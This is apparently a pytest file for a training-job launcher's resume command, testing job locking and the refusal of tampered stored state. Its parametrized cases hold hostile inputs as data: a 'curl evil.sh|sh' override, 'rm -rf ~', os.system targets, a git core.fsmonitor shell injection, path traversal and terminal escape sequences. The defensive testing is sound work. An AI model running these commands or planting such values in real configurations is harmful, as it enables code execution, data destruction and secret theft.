"""What guards ``foxhunt train start --resume``: one launch of a job at a time, and nothing read
back from the store or a launch file that could name code.

In process: the supervisor's place is taken by a sleeping process started with the launcher's
own arguments (its descriptors included), and the plan by a stand-in, so nothing trains; a
planted store is a copy of the hand-populated one with one tag changed.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from foxhunt.cli import app
from foxhunt.jobs import launch
from foxhunt.jobs.launch_file import LaunchFile, jobs_dir
from foxhunt.jobs.views import find_job
from foxhunt.runs.environment import store_uri

runner = CliRunner()
SLEEPER = [sys.executable, "-c", "import time; time.sleep(120)"]
POPEN = subprocess.Popen  # the real one: the fixture below replaces the module's for the launcher


@pytest.fixture
def launched(monkeypatch):
    """Stand-ins for the plan and the supervisor; yields the sleepers started (killed after)."""
    sleepers: list[subprocess.Popen] = []

    def popen(args, **kwargs):
        process = POPEN(SLEEPER, **kwargs)
        sleepers.append(process)
        return process

    def plan(overrides, root):
        return [], {"tracking_uri": store_uri(root), "experiment": "foxhunt", "artifact_location": ""}

    monkeypatch.setattr(launch, "plan_cells", plan)
    monkeypatch.setattr(launch.subprocess, "Popen", popen)
    yield sleepers
    for process in sleepers:
        process.kill()
        process.wait()


def _dead_pid() -> int:
    process = POPEN(["true"])
    process.wait()
    return process.pid


def failed_job(root: Path, job_id: str, overrides: list[str]) -> None:
    """A job that only its launch file knows, its process gone: FAILED, resumable."""
    LaunchFile(
        job_id=job_id, pid=_dead_pid(), host=socket.gethostname(), command=["foxhunt-train", "-m", *overrides],
        overrides=overrides, log=str(jobs_dir(root) / f"{job_id}.log"), tracking_uri=store_uri(root), root=str(root),
        sweep_dir=str(root / "outputs" / "sweeps" / job_id), started_ms=int(time.time() * 1000) - 60_000, plan=[],
    ).write(jobs_dir(root) / f"{job_id}.json")  # fmt: skip


def test_a_second_resume_while_the_first_runs_is_refused_naming_the_holder(tmp_path, launched):
    failed_job(tmp_path, "feed0001", ["model=dqn"])
    uri = store_uri(tmp_path)
    job = find_job(uri, "feed0001", root=tmp_path)
    assert job.state == "FAILED"
    first = launch.resume(job, tmp_path, uri)
    # the second was read before the first launched (both saw FAILED): the race of two commands
    with pytest.raises(launch.LaunchError) as refused:
        launch.resume(job, tmp_path, uri)
    assert len(launched) == 1 and f"pid {first.pid}" in str(refused.value) and "\n" not in str(refused.value)
    assert "foxhunt train stop feed0001" in str(refused.value)
    assert LaunchFile.read(jobs_dir(tmp_path) / "feed0001.json").pid == first.pid  # the first launch's file is kept

    # the lock is the process's: it goes with it (kill -9 included), nothing to clean up
    os.kill(first.pid, signal.SIGKILL)
    launched[0].wait()
    again = launch.resume(find_job(uri, "feed0001", root=tmp_path), tmp_path, uri)
    assert again.pid != first.pid and len(launched) == 2


def test_the_lock_goes_with_the_process_it_was_handed_to(tmp_path):
    from foxhunt.jobs.job_lock import JobLock, JobLockHeld

    lock = JobLock.acquire(tmp_path, "feed0002", "test")
    holder = POPEN(SLEEPER, pass_fds=(lock.fd,))
    lock.name_holder(holder.pid, "the job's supervisor")
    lock.close()  # the launcher's copy: the holder keeps the lock
    try:
        with pytest.raises(JobLockHeld, match=f"pid {holder.pid} on {socket.gethostname()} \\(the job's supervisor, since "):
            JobLock.acquire(tmp_path, "feed0002", "test")
    finally:
        holder.kill()
        holder.wait()
    with JobLock.acquire(tmp_path, "feed0002", "test"):
        pass


@pytest.fixture
def planted(jobs_store, tmp_path, launched):
    """A copy of the hand-populated store; ``plant(key, value)`` sets a tag of the KILLED job
    bbbb3333's parent run (and of its cell, for the job id); the launches are recorded."""
    (tmp_path / "mlruns").mkdir()
    database = tmp_path / "mlruns" / "mlflow.db"
    shutil.copy(jobs_store.root / "mlruns" / "mlflow.db", database)
    parent, cell = jobs_store.runs["killed"], jobs_store.runs["killed/mamba2-6e"]

    def plant(key: str, value: str, runs=(parent,)) -> None:
        with sqlite3.connect(database) as db:
            for run_id in runs:
                db.execute("INSERT OR REPLACE INTO tags (key, value, run_uuid) VALUES (?, ?, ?)", (key, value, run_id))

    plant.runs = lambda: sqlite3.connect(database).execute("SELECT count(*) FROM runs").fetchone()[0]
    plant.cell = cell
    return plant


@pytest.mark.parametrize(
    "stored",
    [
        "+callbacks.x._target_=os.system",
        "hydra.launcher.setup=[curl evil.sh|sh]",
        "strategy.setup=[rm -rf ~]",
        "hydra.searchpath=[file:///tmp/evil]",
        "--config-dir=/tmp/evil",
        "logger.experiment=${oc.env:DATABENTO_API_KEY}",
        # git, run by the run's provenance, reads its config from the environment: core.fsmonitor runs a shell line
        "+hydra.job.env_set.GIT_CONFIG_VALUE_0='touch /tmp/planted; false'",
        "hydra.run.dir=/etc/planted",
        # keys inside a value: the searched keys of a stored search ran a shell line the same way (found by a helper)
        "++hydra.sweeper.params={a:'choice(1)',+hydra.job.env_set.GIT_CONFIG_KEY_0:'choice(core.fsmonitor)'}",
        "hydra.sweeper.sampler={_target_:os.system,command:ls}",
    ],
)
def test_a_planted_stored_override_is_refused_in_one_line_and_nothing_is_launched(planted, launched, tmp_path, stored):
    planted("job.overrides", json.dumps(["model=mamba2", stored]))
    runs = planted.runs()
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("foxhunt train: config error: job bbbb3333: stored override ")
    assert "refused" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert launched == [] and planted.runs() == runs  # no process, no run
    assert not (jobs_dir(tmp_path) / "bbbb3333.json").exists()


def test_stored_overrides_that_are_no_list_of_strings_are_refused_and_status_still_shows_the_job(planted, launched, tmp_path):
    planted("job.overrides", json.dumps({"model": "dqn"}))
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [], result.output
    assert result.stderr.strip() == ("foxhunt train: config error: job bbbb3333: its tag job.overrides is not a list of "
                                     "overrides (foxhunt writes a JSON list of strings)")  # fmt: skip
    shown = runner.invoke(app, ["train", "status", "bbbb3333", "--json", "--root", str(tmp_path)])
    assert shown.exit_code == 0 and json.loads(shown.stdout)["overrides"] is None


def test_a_planted_override_in_a_launch_file_is_refused(tmp_path, launched):
    failed_job(tmp_path, "feed0003", ["model=dqn", "+callbacks.x._target_=os.system"])
    with pytest.raises(Exception) as refused:
        launch.resume(find_job(store_uri(tmp_path), "feed0003", root=tmp_path), tmp_path, store_uri(tmp_path))
    assert "job feed0003: stored override '+callbacks.x._target_=os.system'" in str(refused.value)
    assert launched == []


def test_a_planted_job_id_that_is_a_path_is_refused(planted, launched, tmp_path):
    planted("job_id", "bbbb3333/../../../escaped", runs=(planted.cell,))
    planted("job_id", "bbbb3333/../../../escaped")
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2, result.output
    assert "not a job id" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert launched == [] and not list(tmp_path.glob("escaped*"))  # outside outputs/jobs/


def test_a_refusal_waits_for_a_holder_that_has_not_named_itself_yet(tmp_path):
    """Between a launch's flock and its write of its name, a second launch reads an empty lock
    file: the refusal waits briefly for the name instead of saying nothing of the holder (the e2e
    race of two resumes said "it has not named itself yet")."""
    import fcntl
    import threading

    from foxhunt.jobs.job_lock import JobLock, JobLockHeld, lock_path

    path = lock_path(tmp_path, "job1")
    path.parent.mkdir(parents=True)
    fd = os.open(path, os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)  # taken, not named yet
    holder = JobLock(path, fd, "job1")
    threading.Timer(0.2, holder.name_holder, (os.getpid(), "the job's launcher")).start()
    try:
        with pytest.raises(JobLockHeld, match=rf"pid {os.getpid()} on .*\(the job's launcher, since "):
            JobLock.acquire(tmp_path, "job1", "a resume")
    finally:
        holder.close()


def test_links_planted_in_the_jobs_folder_are_never_written_through(tmp_path, launched):
    """A link at the job's log (its output appended to another file) is refused in one line,
    before anything is launched or written; one at the launch file's old temporary name or at the
    launch file itself (the file overwritten with the job's JSON) is not followed."""
    folder = jobs_dir(tmp_path)
    folder.mkdir(parents=True)
    failed_job(tmp_path, "feed0004", ["model=dqn"])
    victims = {name: tmp_path / name for name in ("log-victim", "tmp-victim")}
    for victim in victims.values():
        victim.write_text("precious\n")
    (folder / "feed0004.log").symlink_to(victims["log-victim"])
    (folder / "feed0004.tmp").symlink_to(victims["tmp-victim"])
    before = (folder / "feed0004.json").read_text()

    result = runner.invoke(app, ["train", "start", "--resume", "feed0004", "--root", str(tmp_path)])

    assert result.exit_code == 2 and launched == [], result.output
    assert result.stderr.strip() == (f"foxhunt train: job feed0004: its log {folder / 'feed0004.log'} cannot be opened "
                                     "(Too many levels of symbolic links; a symbolic link is refused)")  # fmt: skip
    assert all(victim.read_text() == "precious\n" for victim in victims.values())
    assert (folder / "feed0004.json").read_text() == before  # nothing launched, nothing rewritten

    (folder / "feed0004.log").unlink()
    (folder / "feed0004.json").unlink()
    (folder / "feed0004.json").symlink_to(victims["tmp-victim"])  # a link where the launch file goes
    failed_job(tmp_path, "feed0004", ["model=dqn"])
    assert victims["tmp-victim"].read_text() == "precious\n" and not (folder / "feed0004.json").is_symlink()
    assert not [p.name for p in folder.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]  # no temporary left


def test_escape_sequences_planted_in_the_store_are_shown_not_sent_to_the_terminal(planted, tmp_path):
    """A tag's escape sequences (retitle the terminal, clear it, a forged line) were printed raw."""
    planted("command", "\x1b]0;OWNED-TITLE\x07\x1b[2J\x1b[31mRED\nfake line")
    planted("error", "\x1b[5mBLINK", runs=(planted.cell,))
    for args in (["train", "status", "bbbb3333"], ["train", "list"]):
        result = runner.invoke(app, [*args, "--root", str(tmp_path)])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
    status = runner.invoke(app, ["train", "status", "bbbb3333", "--root", str(tmp_path)]).output
    assert "\\x1b]0;OWNED-TITLE\\x07" in status and "\\x1b[5mBLINK" in status  # shown, as escapes


def test_a_stored_sweep_folder_outside_the_root_is_refused_unless_a_sweep_wrote_it(planted, launched, tmp_path):
    """A job.sweep_dir planted to have a resume write its sweep folders anywhere is refused in one
    line; a folder a sweep wrote (a user's choice outside the root, its multirun.yaml there) resumes."""
    outside = tmp_path.parent / f"{tmp_path.name}-elsewhere"
    planted("job.sweep_dir", str(outside))
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [], result.output
    assert result.stderr.strip().startswith(f"foxhunt train: job bbbb3333: its stored sweep folder {str(outside)!r} is outside ")
    assert not outside.exists()

    outside.mkdir()
    (outside / "multirun.yaml").write_text("hydra: {}\n")
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 0 and len(launched) == 1, result.output


@pytest.mark.parametrize("stored", ["hydra.sweep.subdir=/tmp/planted-cells", "hydra.sweep.subdir=../../../planted",
                                    "++hydra.sweep.dir=/tmp/planted-sweep"])  # fmt: skip
def test_a_stored_sweep_subfolder_or_a_forced_sweep_folder_that_leaves_is_refused(planted, launched, tmp_path, stored):
    """A stored hydra.sweep.subdir (absolute, or with '..') had a resume write the cells' files
    anywhere, and ++hydra.sweep.dir passed the sweep-folder check that looked for 'hydra.sweep.dir='
    only (found by a helper probing resume)."""
    planted("job.overrides", json.dumps(["model=mamba2", stored]))
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [], result.output
    assert result.stderr.startswith("foxhunt train: job bbbb3333: its stored ") and "refused" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_second_job_on_a_running_jobs_sweep_folder_is_refused(tmp_path, launched):
    """Two jobs started with one hydra.sweep.dir wrote their cells into the same folders (the
    second's checkpoints beside the first's, one parent run taken for the other's; found by a
    helper probing the job CLI). While the first runs, the second is refused in one line; once it
    has ended, the folder is free."""
    shared = tmp_path / "outputs" / "shared"
    result = runner.invoke(app, ["train", "start", "model=dqn", f"hydra.sweep.dir={shared}", "--root", str(tmp_path)])
    assert result.exit_code == 0 and len(launched) == 1, result.output
    first = result.output.split("job ", 1)[1].split()[0].rstrip(":")
    again = runner.invoke(app, ["train", "start", "model=dqn", "seed=2", f"hydra.sweep.dir={shared}/.", "--root", str(tmp_path)])
    assert again.exit_code == 2 and len(launched) == 1, again.output
    assert again.stderr.strip().endswith(f"is job {first}'s, which is running: name another hydra.sweep.dir, or stop it "
                                         f"(foxhunt train stop {first})")  # fmt: skip
    launched[0].kill()
    launched[0].wait()
    later = runner.invoke(app, ["train", "start", "model=dqn", "seed=2", f"hydra.sweep.dir={shared}", "--root", str(tmp_path)])
    assert later.exit_code == 0 and len(launched) == 2, later.output


@pytest.mark.parametrize("planted_at", ["jobs-folder-a-file", "lock-a-folder", "lock-a-dangling-link"])
def test_a_lock_that_cannot_be_opened_is_one_line(tmp_path, launched, planted_at):
    """A dangling link or a folder at the job's lock path, or a file where the jobs folder goes:
    OSError tracebacks (found by a helper probing the job CLI)."""
    if planted_at == "jobs-folder-a-file":
        jobs_dir(tmp_path).parent.mkdir(parents=True)
        jobs_dir(tmp_path).write_text("")
        args = ["train", "start", "model=dqn"]
    else:
        failed_job(tmp_path, "feed0009", ["model=dqn"])
        lock = jobs_dir(tmp_path) / "feed0009.lock"
        lock.mkdir() if planted_at == "lock-a-folder" else lock.symlink_to(tmp_path / "nowhere")
        args = ["train", "start", "--resume", "feed0009"]
    result = runner.invoke(app, [*args, "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [], result.output
    assert "Traceback" not in result.output and len(result.stderr.strip().splitlines()) == 1, result.output
    assert "its lock" in result.stderr and "cannot be opened" in result.stderr


def test_a_stored_sweep_folder_of_another_job_is_refused(planted, launched, tmp_path, jobs_store):
    """A job.sweep_dir edited to another job's sweep folder: the resume reopened that job's parent
    run, retagged it and rewrote its summary (found by a helper probing the job CLI)."""
    folder = tmp_path / "outputs" / "sweeps" / "aaaa2222-sweep"
    folder.mkdir(parents=True)
    planted("sweep_dir", str(folder), runs=(jobs_store.runs["failed"],))  # job aaaa2222's sweep wrote it
    planted("job.sweep_dir", str(folder))
    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [], result.output
    assert result.stderr.strip() == (f"foxhunt train: job bbbb3333: its stored sweep folder {folder} is job aaaa2222's (its "
                                     "parent run names it): refused; start the grid again with foxhunt train start")  # fmt: skip


def test_a_fifo_at_the_jobs_log_or_lock_and_a_planted_holder_are_one_line(tmp_path, launched):
    """A FIFO at the job's log held the resume, its lock taken, for good; one at its lock was a
    traceback (ftruncate: Invalid argument); a lock file's holder naming a host with a terminal
    escape and a forged line was printed raw (found by a helper probing the job CLI)."""
    import fcntl
    import threading

    folder = jobs_dir(tmp_path)
    folder.mkdir(parents=True)
    failed_job(tmp_path, "feed0005", ["model=dqn"])
    os.mkfifo(folder / "feed0005.log")
    done: list = []
    worker = threading.Thread(target=lambda: done.append(runner.invoke(
        app, ["train", "start", "--resume", "feed0005", "--root", str(tmp_path)])), daemon=True)  # fmt: skip
    worker.start()
    worker.join(timeout=30)
    assert done, "the resume hung on a FIFO at the job's log"
    assert done[0].exit_code == 2 and launched == [], done[0].output
    assert done[0].stderr.strip() == (f"foxhunt train: job feed0005: its log {folder / 'feed0005.log'} cannot be opened "
                                      "(not a regular file; a symbolic link is refused)")  # fmt: skip

    (folder / "feed0005.log").unlink()
    (folder / "feed0005.lock").unlink(missing_ok=True)  # the first resume's, released
    os.mkfifo(folder / "feed0005.lock")
    result = runner.invoke(app, ["train", "start", "--resume", "feed0005", "--root", str(tmp_path)])
    assert result.exit_code == 2 and launched == [] and "Traceback" not in result.output, result.output
    assert result.stderr.strip().startswith(f"foxhunt train: job feed0005: its lock {folder / 'feed0005.lock'} cannot be "
                                            "opened (not a regular file")  # fmt: skip

    (folder / "feed0005.lock").unlink()
    lock = folder / "feed0005.lock"
    lock.write_text(json.dumps({"pid": 1, "host": "h\x1b]0;PWNED\x07\r\nforged line", "what": "x", "since_ms": 1}))
    fd = os.open(lock, os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        result = runner.invoke(app, ["train", "start", "--resume", "feed0005", "--root", str(tmp_path)])
    finally:
        os.close(fd)
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\x07" not in result.stderr, result.output
    assert len(result.stderr.strip().splitlines()) == 1 and "h\\x1b]0;PWNED\\x07" in result.stderr


@pytest.mark.parametrize("written", ["resume=true", "resume=True", "resume=TRUE"])
def test_train_start_with_resume_true_launches_a_resuming_sweep(tmp_path, launched, written):
    """train start ... resume=true was dropped from the launch unless written just so: the cell
    trained again beside its finished run (found by a helper probing the job CLI). Any case of
    it resumes; the stored overrides hold none (a job's own resume adds it)."""
    result = runner.invoke(app, ["train", "start", "model=dqn", written, "--root", str(tmp_path)])
    assert result.exit_code == 0 and len(launched) == 1, result.output
    (path,) = jobs_dir(tmp_path).glob("*.json")
    filed = LaunchFile.read(path)
    assert filed.command[-1] == "resume=true" and filed.overrides == ["model=dqn"]
